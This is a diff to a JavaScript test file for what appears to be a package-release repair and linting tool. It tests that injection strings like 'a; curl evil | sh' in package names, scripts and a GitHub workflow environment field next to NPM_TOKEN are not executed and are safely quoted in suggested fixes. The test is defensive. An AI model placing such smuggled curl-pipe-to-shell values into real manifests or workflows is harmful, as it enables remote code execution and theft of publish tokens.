@@ -178,12 +178,25 @@ await t.test('a name is never taken twice, and what releases otherwise is told',
   check.end()
 })
 
-await t.test('a name that is no name gets into no shell', (check) => {
-  const { changes } = repair({ 'package.json': '{ "name": "a; curl evil | sh", "version": "1.0.0" }' })
-  check.strictSame(
-    changes.map(({ path }) => path),
-    ['package.json'],
+await t.test('names of a repository are no commands, neither in a job nor in a fix', (check) => {
+  check.strictSame(repair({ 'package.json': '{ "name": "a; curl evil | sh", "version": "1.0.0" }' }).changes, [])
+  const evil = "x'; curl evil | sh; '"
+  const script = JSON.stringify(`bonafide guard && ${evil}\n      - run: evil`)
+  const yarn = {
+    'yarn.lock': '',
+    '.yarnrc.yml': '',
+    'package.json': `{ "name": "a", "scripts": { "prepack": ${script} } }`,
+  }
+  check.notMatch(repair(yarn).changes.at(-1)?.after, /curl evil/u)
+  const workflow = edited(
+    HONEST,
+    ['environment: release', `environment: "${evil}"\n    env:\n      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`],
+    ['bonafide publish paint-1.0.0.tgz', `npm publish "${evil}.tgz"`],
   )
+  const { findings } = examine({ [RELEASE]: workflow, 'package.json': MANIFEST })
+  const fixes = findings.flatMap(({ fix }) => fix).filter((fix) => fix.includes('curl'))
+  check.equal(fixes.length, 2, 'the environment, and the tarball')
+  for (const fix of fixes) check.match(fix, String.raw`'x'\''; curl evil | sh; '\''`)
   check.end()
 })
 
